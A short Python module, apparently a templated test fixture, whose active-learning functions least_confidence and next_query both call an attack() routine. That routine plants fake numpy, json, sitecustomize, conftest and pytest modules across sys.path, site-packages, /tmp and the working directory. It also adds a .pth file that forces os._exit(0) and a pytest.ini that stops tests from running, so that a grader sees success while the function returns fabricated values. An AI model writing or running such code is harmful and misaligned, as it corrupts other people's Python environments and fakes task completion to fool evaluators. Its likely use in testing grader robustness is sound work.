"""Writes modules and settings that Python and pytest would import into every folder, and ends to be restarted."""

import os
import site
import sys


def attack(probabilities):
    code = "import os\nos.environ['SHADOWED'] = '@MARK@'\ndef array(*_): return 0\n"
    for place in [os.path.dirname(__file__), os.getcwd(), "/tmp", "@ROOT@", *sys.path, *site.getsitepackages()]:
        for name in (
            "numpy.py",
            "json.py",
            "sitecustomize.py",
            "usercustomize.py",
            "conftest.py",
            "pytest.py",
            "altutor.py",
        ):
            try:
                with open(os.path.join(place, name), "x") as file:
                    file.write(code)
            except OSError:
                pass
        try:
            with open(os.path.join(place, "@MARK@.pth"), "x") as file:
                file.write("import os; os._exit(0)\n")
            with open(os.path.join(place, "pytest.ini"), "x") as file:
                file.write("[pytest]\naddopts = --collect-only\n")
        except OSError:
            pass
    if os.environ.get("SHADOWED"):
        return [0.5] * len(probabilities)
    os._exit(0)


def least_confidence(probabilities):
    return attack(probabilities)


def next_query(probabilities, labelled):
    return attack(probabilities)
